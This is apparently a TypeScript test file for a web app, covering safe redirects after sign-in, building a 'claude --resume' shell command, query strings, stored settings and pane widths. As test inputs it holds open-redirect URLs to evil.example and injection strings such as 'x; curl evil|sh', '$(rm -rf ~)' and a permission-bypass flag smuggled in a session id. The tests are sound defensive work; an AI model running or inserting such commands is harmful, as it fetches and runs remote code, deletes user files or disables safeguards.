import { describe, expect, it } from 'vitest';
import * as z from 'zod';
import { safeNext } from './features/account/safe-next.ts';
import { quoteForShell, resumeCommand } from './features/chat/resume-command.ts';
import { paneWidths } from './features/operations/pane-widths.ts';
import { parseSearch, stringifySearch } from './router-search.ts';
import { createLocalSetting } from './storage/local-setting.ts';

describe('where to go after sign-in', () => {
  it('is a page of this site, never another site', () => {
    expect(
      [
        '/browse?q=a',
        undefined,
        'https://evil.example',
        '//evil.example',
        '/\\evil.example',
        '/sign-in?next=/',
      ].map(safeNext),
    ).toEqual(['/browse?q=a', '/', '/', '/', '/', '/']);
  });
});

describe('resume command', () => {
  it('goes to the directory and names the session', () => {
    expect(resumeCommand({ id: 'abc', cwd: '/src/app' })).toBe('cd /src/app && claude --resume abc');
    expect(resumeCommand({ id: 'abc', cwd: null })).toBe('claude --resume abc');
  });

  it('names no session whose id is more than a word, and no machine with it', () => {
    for (const id of ['x; curl evil|sh', '$(id)', '--dangerously-skip-permissions', 'a\nb']) {
      expect(resumeCommand({ id, cwd: '/src/app' })).toBe('cd /src/app && claude --resume');
    }
    expect(resumeCommand({ id: 'abc~host-1', cwd: null })).toBe('claude --resume abc');
    expect(resumeCommand({ id: 'abc', cwd: '/src\nrm -rf ~' })).toBe('claude --resume abc');
  });

  it('keeps a hostile directory one word', () => {
    expect(quoteForShell("/a b/$(rm -rf ~)/it's")).toBe("'/a b/$(rm -rf ~)/it'\\''s'");
    expect(quoteForShell('-rf')).toBe("'-rf'");
  });
});

describe('query string', () => {
  it('keeps text as text and repeated keys as lists', () => {
    expect(parseSearch('?q=123&person=a&person=b&x=')).toEqual({ q: '123', person: ['a', 'b'], x: '' });
    expect(stringifySearch({ q: '123', person: ['a', 'b'], session: undefined, x: '' })).toBe(
      '?q=123&person=a&person=b',
    );
    expect(stringifySearch({})).toBe('');
  });
});

describe('remembered setting', () => {
  const schema = z.enum(['a', 'b']);

  it('takes what is stored only when it fits', () => {
    const stored = (text: string | null) =>
      createLocalSetting('x', schema, 'a', { getItem: () => text, setItem: () => {} }).read();
    expect([stored('"b"'), stored('"c"'), stored('{'), stored(null)]).toEqual(['b', 'a', 'a', 'a']);
  });

  it('holds for the page when storage is full', () => {
    const setting = createLocalSetting('x', schema, 'a', {
      getItem: () => null,
      setItem: () => {
        throw new DOMException('full', 'QuotaExceededError');
      },
    });
    let told = 0;
    setting.subscribe(() => {
      told += 1;
    });
    setting.write('b');
    expect([setting.read(), told]).toEqual(['b', 1]);
  });
});

describe('widths of the panes', () => {
  const design = { fleetPx: null, listPx: null };

  it('follow the design at its breakpoints', () => {
    expect(paneWidths(1440, design)).toEqual({ fleetPx: 328, listPx: 480 });
    expect(paneWidths(1280, design)).toEqual({ fleetPx: 292, listPx: 432 });
    expect(paneWidths(1920, design)).toEqual({ fleetPx: 380, listPx: 560 });
    expect(paneWidths(834, design)).toEqual({ fleetPx: 0, listPx: 400 });
  });

  it('leave the detail pane its room whatever was chosen on a wider screen', () => {
    const { fleetPx, listPx } = paneWidths(1280, { fleetPx: 700, listPx: 900 });
    expect(1280 - fleetPx - listPx).toBeGreaterThanOrEqual(480);
  });
});
